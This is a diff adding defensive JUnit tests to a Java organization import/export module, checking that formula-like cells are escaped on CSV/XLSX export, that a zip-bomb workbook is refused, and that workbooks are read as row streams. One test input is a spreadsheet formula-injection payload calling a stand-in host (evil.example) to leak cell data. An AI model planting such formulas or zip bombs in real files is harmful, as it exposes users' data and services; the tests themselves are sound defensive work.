@@ -5,12 +5,18 @@ import java.nio.charset.StandardCharsets;
 import java.util.List;
 import java.util.Set;
 
+import com.tngtech.archunit.core.domain.JavaClasses;
+import com.tngtech.archunit.core.importer.ClassFileImporter;
+import com.tngtech.archunit.lang.syntax.ArchRuleDefinition;
 import org.junit.jupiter.api.Test;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.boot.test.context.SpringBootTest;
 import org.synergies.organizations.ImportRow.Outcome;
+import org.synergies.files.SampleFiles;
+import org.synergies.organizations.internal.SpreadsheetReader;
 import org.synergies.organizations.internal.SpreadsheetWriter;
 import org.synergies.shared.FieldProblem;
+import org.synergies.shared.Language;
 import org.synergies.shared.RuleViolationException;
 import org.synergies.support.DatabaseTest;
 import org.synergies.support.TestOrganizations;
@@ -146,6 +152,71 @@ class OrganizationImportTests {
 		ImportPreview preview = this.imports.preview("twice.csv", file.getBytes(StandardCharsets.UTF_8));
 
 		assertThat(preview.rows()).extracting(ImportRow::outcome).containsExactly(Outcome.NEW, Outcome.INVALID);
+	}
+
+	@Test
+	void cellsThatLookLikeFormulasAreExportedInertAndImportBackUnchanged() throws Exception {
+		String tag = TestOrganizations.unique();
+		String name = "=HYPERLINK(\"https://evil.example/\"&A1,\"Open\") " + tag;
+		OrganizationDetails details = TestOrganizations.ngo(name);
+		this.organizations.register(new OrganizationDetails(details.officialName(), "-1+2 " + tag, null, null, null,
+				details.kind(), details.headquarters(), details.countries(), details.website(), details.publicEmail(),
+				"@SUM(A1:A9)", Language.EN, details.instruments(), details.speciesGroups()));
+		DirectoryQuery query = new DirectoryQuery(tag, null, null, null, OrganizationStatus.ACTIVE,
+				DirectoryQuery.Sort.NAME, 0, 100);
+		ByteArrayOutputStream csv = new ByteArrayOutputStream();
+		SpreadsheetWriter.csv(action -> this.organizations.forEach(query, action), csv);
+		ByteArrayOutputStream xlsx = new ByteArrayOutputStream();
+		SpreadsheetWriter.xlsx(action -> this.organizations.forEach(query, action), "organizations", xlsx);
+
+		assertThat(csv.toString(StandardCharsets.UTF_8)).contains("\"'=HYPERLINK(", ",'-1+2 ", ",'@SUM(A1:A9),")
+			.doesNotContain(",=HYPERLINK", ",-1+2", ",@SUM");
+		for (ImportPreview preview : List.of(this.imports.preview("export.csv", csv.toByteArray()),
+				this.imports.preview("export.xlsx", xlsx.toByteArray()))) {
+			assertThat(preview.rows()).singleElement().satisfies(row -> {
+				assertThat(row.outcome()).isEqualTo(Outcome.MATCH);
+				assertThat(row.changes()).isEmpty();
+				assertThat(row.officialName()).isEqualTo(name);
+			});
+		}
+	}
+
+	@Test
+	void aWorkbookThatWouldExpandBeyondTheLimitsIsRefusedAsAZipBomb() throws Exception {
+		String tag = TestOrganizations.unique();
+		this.organizations.register(TestOrganizations.ngo("Delta Trust " + tag));
+		ByteArrayOutputStream xlsx = new ByteArrayOutputStream();
+		SpreadsheetWriter.xlsx(action -> this.organizations.forEach(
+				new DirectoryQuery(tag, null, null, null, OrganizationStatus.ACTIVE, DirectoryQuery.Sort.NAME, 0, 100),
+				action), "organizations", xlsx);
+		byte[] bomb = SampleFiles.withBomb(xlsx.toByteArray(), "xl/media/padding.bin", 50);
+
+		assertThat(this.imports.preview("export.xlsx", xlsx.toByteArray()).rows()).hasSize(1);
+		assertThat(bomb.length).isLessThan(SpreadsheetReader.MAX_BYTES);
+		assertThatThrownBy(() -> this.imports.preview("export.xlsx", bomb))
+			.isInstanceOfSatisfying(RuleViolationException.class, refused -> {
+				assertThat(refused.messageKey()).isEqualTo("import.file.expands-too-much");
+				assertThat(refused.arguments()).containsExactly(1_000, 100L, 100);
+			});
+	}
+
+	@Test
+	void aWorkbookIsReadAsAStreamOfRowsNeverLoadedWhole() {
+		JavaClasses reader = new ClassFileImporter().importPackagesOf(SpreadsheetReader.class);
+		ArchRuleDefinition.noClasses()
+			.that()
+			.haveNameMatching(".*\\.SpreadsheetReader(\\$.*)?")
+			.should()
+			.dependOnClassesThat()
+			.haveFullyQualifiedName("org.apache.poi.xssf.usermodel.XSSFWorkbook")
+			.orShould()
+			.dependOnClassesThat()
+			.haveFullyQualifiedName("org.apache.poi.ss.usermodel.WorkbookFactory")
+			.orShould()
+			.dependOnClassesThat()
+			.haveFullyQualifiedName("org.apache.poi.ss.usermodel.Workbook")
+			.because("a workbook of thousands of rows is read row by row (POI's event API)")
+			.check(reader);
 	}
 
 	@Test
